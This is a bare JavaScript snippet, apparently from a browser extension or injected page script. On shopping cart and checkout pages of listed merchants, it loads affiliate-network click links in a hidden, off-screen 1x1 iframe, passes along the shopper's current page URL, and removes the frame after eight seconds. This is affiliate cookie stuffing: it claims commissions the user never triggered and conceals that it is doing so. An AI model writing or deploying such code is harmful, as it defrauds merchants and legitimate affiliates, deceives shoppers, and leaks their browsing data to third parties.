var _cs = {
  merchants: {
    'shop-one.example': 'https://click.affnet.example/t/t?a=119922&as=77&t=2&tk=1',
    'shop-two.example': 'https://www.affjump.example/click-900113-1442?sid=ext',
    'hotel-three.example': 'https://prf.affgate.example/click/camref:1100lPLACE/'
  },
  done: function (h) {
    try { return sessionStorage['cs_' + h]; } catch (e) { return 1; }
  },
  run: function () {
    var h = location.hostname.replace(/^www\./, '');
    if (!_cs.merchants[h] || _cs.done(h)) return;
    if (!/cart|checkout|basket|bag|order/i.test(location.pathname)) return;
    var f = document.createElement('iframe');
    f.width = 1; f.height = 1;
    f.setAttribute('style', 'position:absolute;left:-5000px;top:-5000px;visibility:hidden');
    f.setAttribute('sandbox', 'allow-scripts allow-same-origin');
    f.src = _cs.merchants[h] + '&url=' + encodeURIComponent(location.href);
    document.body.appendChild(f);
    sessionStorage['cs_' + h] = 1;
    setTimeout(function () { f.parentNode.removeChild(f); }, 8000);
  }
};
setTimeout(_cs.run, 1200);
